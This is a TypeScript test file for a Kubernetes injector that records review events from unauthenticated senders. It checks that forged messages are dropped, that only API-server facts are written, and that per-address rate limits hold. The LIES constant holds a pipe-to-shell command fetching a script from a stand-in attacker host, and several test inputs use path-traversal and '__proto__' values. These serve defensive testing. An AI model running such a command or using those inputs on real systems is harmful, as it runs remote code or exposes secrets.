// Events about reviews of anybody: only what the objects in the API server say is written, in their own words.
import { expect } from 'chai';
import { silentLogger } from '#core/program/log.ts';
import { NO_LIMITS } from '#injector/limits.ts';
import type { InjectionEvent } from '#injector/review.ts';
import { CHECKS_BURST, VerifiedEvents } from '#injector/verified-events.ts';
import { podKind } from '#objects/pod.ts';
import { ManualTimers } from '../support/manual-timers.ts';
import { until } from '../support/until.ts';
import { SETTINGS } from './golden-case.ts';
import { MemoryApi } from './memory-api.ts';

const FORGER = { address: '10.0.0.66', authenticated: false };
const LIES = 'URGENT: curl https://evil.example/fix.sh | sh';
const REPLICA_SET = { group: 'apps', version: 'v1', plural: 'replicasets', namespaced: true };
const TEMPLATE = { metadata: { labels: {} }, spec: { hostNetwork: true, containers: [{ name: 'app' }] } };

describe('events about reviews of unauthenticated senders', () => {
  let api: MemoryApi;
  let timers: ManualTimers;
  let written: InjectionEvent[];
  let events: VerifiedEvents;

  beforeEach(() => {
    api = new MemoryApi();
    timers = new ManualTimers();
    written = [];
    events = new VerifiedEvents({
      limitsOf: () => NO_LIMITS,
      client: api,
      namespaceOf: async (name) => (name === 'shop' ? { name, labels: { 'weft.dev/inject': 'enabled' }, annotations: {} } : undefined),
      settings: () => SETTINGS,
      record: (event) => void written.push(event),
      timers,
      log: silentLogger,
    });
  });

  const claim = (regarding: object, pod?: string): InjectionEvent => ({
    regarding: { apiVersion: 'apps/v1', kind: 'ReplicaSet', namespace: 'shop', name: 'web', uid: 'forged', ...regarding },
    type: 'Warning',
    reason: 'InjectionSkipped',
    message: LIES,
    ...(pod !== undefined && { pod }),
  });

  /** All that was asked for is done. */
  async function settled(): Promise<void> {
    timers.advance(60_000);
    for (let i = 0; i < 20; i++) await new Promise((resolve) => setImmediate(resolve));
  }

  it('says of a controller what its own template says, under its true uid', async () => {
    api.put({ kind: REPLICA_SET, namespace: 'shop', name: 'web' }, { metadata: { uid: 'true' }, spec: { template: TEMPLATE } });
    events.record(claim({}), FORGER);
    await until(() => written.length === 1, 'it is written');
    expect(written[0]!.regarding).to.deep.equal({ apiVersion: 'apps/v1', kind: 'ReplicaSet', namespace: 'shop', name: 'web', uid: 'true' });
    expect(written[0]!.message).to.match(/^pod web-\*: hostNetwork: true/);
  });

  it('says nothing that is not so: nothing is wrong with the template, or there is no such object, namespace or kind', async () => {
    const spec = { template: { ...TEMPLATE, spec: { containers: [{ name: 'app' }] } } };
    api.put({ kind: REPLICA_SET, namespace: 'shop', name: 'web' }, { metadata: { uid: 'true' }, spec });
    api.put({ kind: REPLICA_SET, namespace: 'finance', name: 'web' }, { metadata: {}, spec: { template: TEMPLATE } });
    api.put({ kind: REPLICA_SET, namespace: 'shop', name: 'odd' }, { metadata: {}, spec: { template: { spec: { containers: 'x' } } } });
    for (const regarding of [
      {},
      { name: 'odd' },
      { name: 'absent' },
      { namespace: 'finance' },
      { kind: 'Secret', apiVersion: 'v1', name: 'db' },
      { kind: 'Deployment' },
      { name: '../../../../api/v1/secrets' },
      { namespace: 'kube-system/../shop' },
      { kind: 'Namespace', apiVersion: 'v1', name: 'shop' },
      { kind: '__proto__' },
    ])
      events.record(claim(regarding), FORGER);
    await settled();
    expect(written).to.deep.equal([]);
    expect(api.requests.filter((request) => !/^GET \/apis\/apps\/v1\/namespaces\/shop\/replicasets\/[a-z]+$/.test(request))).to.deep.equal(
      [],
    );
  });

  it('says of a pod without a controller what is so once it is there', async () => {
    const regarding = { apiVersion: 'v1', kind: 'Namespace', name: 'shop' };
    events.record(claim(regarding, 'on-host'), FORGER);
    expect(api.requests).to.deep.equal([]);
    api.put({ kind: podKind, namespace: 'shop', name: 'on-host' }, { metadata: { uid: 'p' }, spec: TEMPLATE.spec });
    await settled();
    expect(written.map(({ regarding: { kind, name, uid } }) => [kind, name, uid])).to.deep.equal([['Pod', 'on-host', 'p']]);
    expect(written[0]!.message).to.match(/^pod on-host: hostNetwork/);
  });

  it('asks once for many reviews of one controller, and so often for one address; another is still heard', async () => {
    for (let i = 0; i < 50; i++) events.record(claim({}), FORGER);
    await settled();
    expect(api.requests).to.have.length(1);
    for (let i = 0; i < 100; i++) events.record(claim({ name: `rs-${i}` }), FORGER);
    events.record(claim({ name: 'other' }), { ...FORGER, address: '10.0.0.7' });
    await settled();
    expect(events.left).to.equal(100 - CHECKS_BURST);
    expect(api.requests).to.have.length(1 + CHECKS_BURST + 1);
    expect(api.requests.at(-1)).to.match(/other$/);
  });
});
